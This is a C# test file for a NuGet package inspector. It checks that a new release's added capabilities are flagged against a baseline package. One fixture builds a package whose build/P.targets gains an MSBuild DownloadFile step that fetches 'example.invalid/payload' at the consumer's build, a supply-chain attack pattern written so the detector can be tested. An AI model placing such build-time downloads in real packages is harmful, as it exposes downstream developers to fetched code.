using SecureBuild.Core.Inspection;

namespace SecureBuild.Inspection.Tests;

/// <summary>What a release newly can do, against the previous release.</summary>
public sealed class BaselineTests
{
    [Test]
    public void A_new_release_adding_a_DownloadFile_target_is_flagged_new_against_the_baseline()
    {
        using var temp = new TempDirectory();
        var old = temp.Write("P.1.0.0.nupkg", Packages.Zip(
            ("P.nuspec", Packages.Nuspec("P", "1.0.0", "Dep.A")),
            ("lib/net8.0/P.dll", Packages.SmallLibrary),
            ("build/P.targets", Packages.Targets("<Message Text=\"hi\" />"))));
        var current = temp.Write("P.1.1.0.nupkg", Packages.Zip(
            ("P.nuspec", Packages.Nuspec("P", "1.1.0", "Dep.A", "Dep.B")),
            ("lib/net8.0/P.dll", Packages.SmallLibrary),
            ("build/P.targets", Packages.Targets("<Message Text=\"hi\" /><DownloadFile SourceUrl=\"https://example.invalid/payload\" DestinationFolder=\"obj\" />"))));

        var (exit, stdout, stderr) = Cli.Run("inspect", current, "--baseline", old);

        Assert.That(exit, Is.EqualTo(0), stderr);
        var news = stdout.Split('\n').Where(l => l.StartsWith("warning SB4340", StringComparison.Ordinal)).ToList();
        Assert.That(news, Has.Count.EqualTo(2), stdout);
        Assert.That(news, Has.Some.Contains("build/P.targets: new in this release (SB4312): downloads a file at the consumer's build: https://example.invalid/payload"));
        Assert.That(news, Has.Some.Contains("P.nuspec: new in this release (SB4330): depends on Dep.B"));
    }

    [Test]
    public void A_release_that_can_do_nothing_new_has_no_new_capability()
    {
        using var temp = new TempDirectory();
        var package = Packages.Zip(("P.nuspec", Packages.Nuspec("P", "1.0.0", "Dep.A")), ("lib/net8.0/P.dll", Packages.SmallLibrary),
            ("build/P.targets", Packages.Targets("<Exec Command=\"echo hi\" />")));
        var report = PackageInspector.Inspect(new InspectionOptions { Input = temp.Write("new.nupkg", package), Baseline = temp.Write("old.nupkg", package) });

        Assert.That(report.Findings.Select(f => f.Code), Does.Not.Contain(InspectionCodes.NewCapability));
        Assert.That(report.Findings.Select(f => f.Code), Does.Contain(InspectionCodes.BuildExec));
    }

    [Test]
    public void A_new_p_invoke_target_and_a_new_native_binary_are_flagged()
    {
        using var temp = new TempDirectory();
        var old = temp.Write("old.nupkg", Packages.Zip(("lib/net8.0/P.dll", Packages.SmallLibrary)));
        var current = temp.Write("new.nupkg", Packages.Zip(
            ("lib/net8.0/P.dll", Packages.Assembly("P", "public static class C { [System.Runtime.InteropServices.DllImport(\"libx\")] public static extern int F(); }")),
            ("runtimes/linux-x64/native/libx.so", Packages.Elf())));

        var report = PackageInspector.Inspect(new InspectionOptions { Input = current, Baseline = old });

        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.NewCapability).Select(f => f.Subject),
            Is.EquivalentTo(new[] { "SB4320 libx", "SB4316 runtimes/linux-x64/native/libx.so" }));
    }

    [Test]
    public void An_unreadable_baseline_is_exit_2_with_SB4341()
    {
        using var temp = new TempDirectory();
        var current = temp.Write("new.nupkg", Packages.Zip(("lib/net8.0/P.dll", Packages.SmallLibrary)));
        var old = temp.Write("old.nupkg", Packages.Text("not a zip"));

        var (exit, _, stderr) = Cli.Run("inspect", current, "--baseline", old);

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4341"));
    }
}
